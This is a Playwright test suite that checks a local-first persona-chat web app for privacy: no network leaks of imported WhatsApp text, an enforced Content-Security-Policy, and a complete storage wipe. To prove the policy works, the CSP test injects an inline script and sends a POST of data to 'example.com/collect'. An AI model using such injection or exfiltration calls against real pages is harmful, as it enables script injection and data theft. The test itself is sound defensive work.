// Privacy, provable: (1) no request of the page, its workers or the service worker leaves 127.0.0.1, and
// no request carries imported text, through every step a person takes; (2) the Content-Security-Policy
// is strict, enforced, and the app runs under it without a single violation; (3) "wipe everything"
// leaves nothing behind (IndexedDB, Cache Storage, OPFS, local/session storage, service worker), except
// the downloaded models when the person chooses to keep them.
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FIXTURES, chooseTinyEmbedModel, createPersona, loadTinyCpuModel, openInfo, openInfoTab, pickFiles, useTestEmbedder, waitEmbedded } from './app-model';
import { goldenExpectation } from './golden';
import { listStorage, recordCspViolations, recordRequests, showMessages, waitForServiceWorker } from './pwa-model';

const CHAT = 'whatsapp/en/whats-reader__android_WhatsApp_Chat_with_Alice.txt';
const LOCAL_HOSTS = new Set(['127.0.0.1']);

interface StepContext {
  context: BrowserContext;
  page: Page;
}

/** The persona's page, remembered by "browse the persona" for the steps after it. */
let personaUrl = '';

/** Clicks an export button and waits for its download to arrive. */
async function exportFile(page: Page, button: string | RegExp): Promise<void> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: button, exact: typeof button === 'string' }).click(),
  ]);
  expect((await download.path()).length).toBeGreaterThan(0);
}

interface Step {
  name: string;
  run: (step: StepContext) => Promise<void>;
}

/**
 * What a person does, in order: import, browse, embed with the local test model, chat with the local
 * CPU model, export every format. Add later features as steps here, before "reload offline": each runs
 * under the same recorder and checks.
 */
const STEPS: Step[] = [
  {
    name: 'first visit',
    run: async ({ page }) => {
      // This machine's embedding model is the local tiny one (there is no hub here): set as a person would
      // before their first persona, so the chat's own embedding downloads nothing from elsewhere.
      await useTestEmbedder(page);
      await page.goto('/');
      await waitForServiceWorker(page);
    },
  },
  {
    name: 'import a chat',
    run: async ({ page }) => {
      const expected = goldenExpectation(CHAT);
      const [person] = Object.entries(expected.authors).sort((a, b) => b[1] - a[1])[0] ?? [];
      if (person === undefined) throw new Error('golden expectation lists no author');
      await pickFiles(page, [join(FIXTURES, CHAT)]);
      await createPersona(page, person);
    },
  },
  {
    name: 'browse the persona',
    run: async ({ page }) => {
      personaUrl = page.url();
      await openInfo(page);
      await showMessages(page);
    },
  },
  {
    name: 'build embeddings with the tiny local embedder',
    run: async ({ page }) => {
      // The chat started embedding with the default (hub) model, which is unreachable here: choose the local
      // tiny one and start it (the same button a person uses), then wait for it on the info page.
      await chooseTinyEmbedModel(page);
      const start = page.getByTestId('embed-panel').getByTestId('embed-start');
      if (await start.isVisible()) await start.click();
      await waitEmbedded(page, 120_000);
    },
  },
  {
    name: 'load the tiny CPU model and chat one message',
    run: async ({ page }) => {
      await loadTinyCpuModel(page);
      // Back inside the app (the loaded model lives in this page).
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Chats' }).click();
      await page.getByTestId('persona-card').getByRole('link').first().click();
      expect(page.url()).toBe(personaUrl);
      const chat = page.getByTestId('chat-view');
      await chat.getByTestId('chat-input').fill('What did you do last weekend?');
      await chat.getByTestId('chat-input').press('Enter');
      await expect(chat.getByTestId('persona-message')).toHaveCount(1);
      await expect.poll(async () => Number(await chat.getByTestId('chat-token-count').innerText()), { timeout: 60_000 }).toBeGreaterThan(2);
      if (await chat.getByTestId('chat-stop').isVisible()) await chat.getByTestId('chat-stop').click();
      await expect(chat.getByTestId('chat-send')).toBeVisible();
    },
  },
  {
    name: 'export the backup, the character cards, the fine-tune data and the chat',
    run: async ({ page }) => {
      await openInfo(page);
      await openInfoTab(page, 'Export');
      await exportFile(page, 'Backup (.zip)');
      await exportFile(page, 'Character card (PNG)');
      await exportFile(page, 'Character card (JSON)');
      await exportFile(page, 'Fine-tune data (JSONL)');
      await exportFile(page, /^SillyTavern chat \(JSONL\)/);
    },
  },
  {
    name: 'look at the models screen (nothing downloaded)',
    run: async ({ page }) => {
      await page.goto('/#/models');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    },
  },
  {
    name: 'reload offline',
    run: async ({ context, page }) => {
      await context.setOffline(true);
      await page.goto('/#/');
      await page.reload();
      await expect(page.getByTestId('persona-card')).toHaveCount(1);
      await context.setOffline(false);
    },
  },
];

/** Lines of the imported export long enough to be unmistakable, plus each message text on its own. */
function importedTexts(path: string): string[] {
  const texts = new Set<string>();
  for (const raw of readFileSync(join(FIXTURES, path), 'utf8').split(/\r?\n/)) {
    const line = raw.trim();
    if (line.length >= 12) texts.add(line);
    const body = /^[^-]+ - [^:]+: (.*)$/.exec(line)?.[1]?.trim();
    if (body !== undefined && body.length >= 12) texts.add(body);
  }
  return [...texts];
}

test('no request leaves 127.0.0.1 and none carries imported text, through every step', async ({ context, page }) => {
  test.setTimeout(300_000);
  const requests = recordRequests(context);
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));

  for (const step of STEPS) {
    await test.step(step.name, () => step.run({ context, page }));
  }

  // The recorder saw the page and the service worker (dedicated workers: see the next test).
  const sources = new Set(requests.map((r) => r.source));
  expect(sources).toContain('page-or-worker');
  expect(sources).toContain('service-worker');

  const foreign = requests.filter((r) => {
    const url = new URL(r.url);
    if (url.protocol === 'data:' || url.protocol === 'blob:') return false;
    return !LOCAL_HOSTS.has(url.hostname);
  });
  expect(foreign.map((r) => `${r.source} ${r.method} ${r.url}`)).toEqual([]);
  expect(sockets).toEqual([]);

  const texts = importedTexts(CHAT);
  expect(texts.length).toBeGreaterThan(20);
  const leaks: string[] = [];
  for (const request of requests) {
    const body = request.body?.toString('utf8') ?? '';
    const url = decodeURIComponent(request.url);
    for (const text of texts) {
      if (body.includes(text) || url.includes(text)) leaks.push(`${request.method} ${request.url}: "${text}"`);
    }
  }
  expect(leaks).toEqual([]);
});

test('the request recorder sees what dedicated workers and the service worker send, bodies included', async ({
  context,
  page,
}) => {
  const requests = recordRequests(context);
  await page.goto('/');
  await waitForServiceWorker(page);
  // A same-origin probe worker (served by the test) that posts a body, as a model worker would fetch.
  await page.route('**/__probe-worker.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      // A worker of a cross-origin isolated page must itself be served with COEP, as the app's are.
      headers: { 'Cross-Origin-Embedder-Policy': 'require-corp' },
      body: "fetch('/__probe-from-worker', { method: 'POST', body: 'worker body' }).finally(() => postMessage('sent'));",
    }),
  );
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const worker = new Worker('/__probe-worker.js');
        worker.onmessage = () => resolve();
      }),
  );
  const fromWorker = requests.find((r) => r.url.endsWith('/__probe-from-worker'));
  expect(fromWorker?.body?.toString('utf8')).toBe('worker body');
  expect(requests.some((r) => r.source === 'service-worker' && r.url.endsWith('/index.html'))).toBe(true);
});

test('the Content-Security-Policy is strict, enforced, and the app runs without a violation', async ({ context, page }) => {
  const violations = await recordCspViolations(context);
  await page.goto('/');
  await waitForServiceWorker(page);

  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  if (policy === null) throw new Error('index.html has no Content-Security-Policy');
  const directives = new Map(
    policy.split(';').map((d) => {
      const [name = '', ...values] = d.trim().split(/\s+/);
      return [name, values] as const;
    }),
  );
  expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(directives.get('default-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  for (const host of (directives.get('connect-src') ?? []).filter((v) => v !== "'self'")) {
    expect(host).toMatch(/^https:\/\/(huggingface\.co|\*\.huggingface\.co|\*\.hf\.co|raw\.githubusercontent\.com)$/);
  }
  expect(await page.locator('script:not([src])').count()).toBe(0);

  // The whole import flow under the policy: not one violation.
  const file = 'whatsapp/en/chat-analytics__4A_11M.zip';
  await pickFiles(page, [join(FIXTURES, file)]);
  await createPersona(page, 'Alice');
  await openInfo(page);
  await showMessages(page);
  // Every other section of the persona screen too (style charts, memories, versions), where present.
  for (const tab of await page.getByRole('tab').all()) await tab.click();
  await page.goto('/#/models');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.goto('/#/');
  await expect(page.getByTestId('persona-card')).toHaveCount(1);
  expect(await violations(page)).toEqual([]);

  // And it is enforced: inline code does not run, and other hosts cannot be reached.
  const attempt = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.append(script);
    const fetched = await fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, fetched };
  });
  expect(attempt).toEqual({ inlineRan: false, fetched: 'blocked' });
  const blocked = await violations(page);
  expect(blocked.some((v) => v.startsWith('script-src'))).toBe(true);
  expect(blocked.some((v) => v.startsWith('connect-src') && v.includes('example.com'))).toBe(true);
});

/** Puts data where libraries and the app could leave it: model caches, another cache, OPFS (GGUF models too), storages. */
async function seedEveryStorage(page: Page): Promise<void> {
  await page.evaluate(async () => {
    await (await caches.open('transformers-cache')).put('/models/x/onnx/model.onnx', new Response('weights'));
    await (await caches.open('webllm/model')).put('/models/y/params_shard_0.bin', new Response('weights'));
    await (await caches.open('some-library-cache')).put('/cached', new Response('data'));
    const root = await navigator.storage.getDirectory();
    const handle = await root.getFileHandle('scratch.bin', { create: true });
    const writable = await handle.createWritable();
    await writable.write('scratch');
    await writable.close();
    await root.getDirectoryHandle('folder', { create: true });
    // GGUF models: wllama's download cache and a .gguf the person picked, both kept in OPFS.
    for (const dir of ['cache', 'gguf-files']) {
      const model = await (await root.getDirectoryHandle(dir, { create: true })).getFileHandle('model.gguf', { create: true });
      const out = await model.createWritable();
      await out.write('GGUF weights');
      await out.close();
    }
    localStorage.setItem('k', 'v');
    sessionStorage.setItem('k', 'v');
    await new Promise<void>((resolve, reject) => {
      const request = indexedDB.open('some-library-db', 1);
      request.onupgradeneeded = () => request.result.createObjectStore('s');
      request.onsuccess = () => {
        request.result.close();
        resolve();
      };
      request.onerror = () => reject(request.error ?? new Error('open failed'));
    });
  });
}

async function wipeWith(page: Page, keepModels: boolean): Promise<void> {
  await page.goto('/#/');
  await page.getByRole('button', { name: 'Wipe everything', exact: true }).click();
  const keep = page.getByTestId('keep-models');
  await expect(keep).toBeVisible();
  await keep.setChecked(keepModels);
  await page.getByRole('button', { name: 'Wipe everything now' }).click();
  await expect(page.getByTestId('wiped')).toBeVisible();
}

for (const keepModels of [false, true]) {
  test(`wipe everything leaves nothing behind${keepModels ? ' but the models the person kept' : ''}`, async ({ page }) => {
    await page.goto('/');
    await waitForServiceWorker(page);
    await pickFiles(page, [join(FIXTURES, 'whatsapp/en/chat-analytics__4A_11M.txt')]);
    await createPersona(page, 'Alice');
    await seedEveryStorage(page);
    await page.reload();

    const before = await listStorage(page);
    expect(before.databases).toEqual(expect.arrayContaining(['personayou', 'some-library-db']));
    expect(before.caches).toEqual(expect.arrayContaining(['transformers-cache', 'webllm/model', 'some-library-cache']));
    expect(before.caches.some((name) => name.startsWith('workbox-precache'))).toBe(true);
    expect(before.opfs).toEqual(['cache', 'folder', 'gguf-files', 'scratch.bin']);
    expect(before.serviceWorkers).toBe(1);

    await wipeWith(page, keepModels);
    expect(await listStorage(page)).toEqual({
      databases: [],
      caches: keepModels ? ['transformers-cache', 'webllm/model'] : [],
      opfs: keepModels ? ['cache', 'gguf-files'] : [],
      local: 0,
      session: 0,
      serviceWorkers: 0,
    });

    // Starting again works, and the app installs its offline cache afresh.
    await page.getByRole('button', { name: 'Start again' }).click();
    await expect(page.getByText('No personas yet.')).toBeVisible();
    await waitForServiceWorker(page);
  });
}
